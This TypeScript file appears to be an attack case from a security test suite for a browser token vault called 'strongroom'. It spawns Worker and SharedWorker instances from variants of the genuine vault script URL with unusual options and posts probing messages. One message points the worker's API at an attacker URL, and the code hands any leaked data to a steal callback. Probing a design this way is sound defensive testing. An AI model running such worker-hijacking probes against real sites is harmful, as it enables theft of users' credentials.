import { attack } from "../attack.js";

export default attack({
  name: "starts keepers from the genuine script with unusual options",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const listen = (target: Worker | MessagePort) => {
      target.addEventListener("message", (event) => it.steal((event as MessageEvent).data));
      target.addEventListener("messageerror", (event) => it.steal(String(event)));
      target.addEventListener("error", (event) =>
        it.steal((event as ErrorEvent).message, (event as ErrorEvent).filename),
      );
      for (const message of [
        "strongroom:hello",
        "token",
        { type: "token" },
        { type: "init", api: it.attackerUrl },
        null,
      ]) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => it.steal(data);
        target.postMessage(message, [port2]);
      }
    };
    for (const url of [
      "/vault-worker.js",
      "/vault-worker.js#x",
      "/vault-worker.js?x",
      "/./vault-worker.js",
      "/strongroom-worker.js",
    ]) {
      for (const options of [
        {},
        { name: "constructor" },
        { type: "module" },
        { credentials: "include", type: "module" },
        { name: JSON.stringify({ api: it.attackerUrl }) },
      ] as WorkerOptions[]) {
        try {
          listen(new Worker(it.scriptUrl(url), options));
          if (!("SharedWorker" in window)) continue;
          const shared = new SharedWorker(it.scriptUrl(url), options);
          shared.port.start();
          listen(shared.port);
        } catch (error) {
          it.steal(String(error));
        }
      }
    }
    await it.pause(1_500);
  },
});
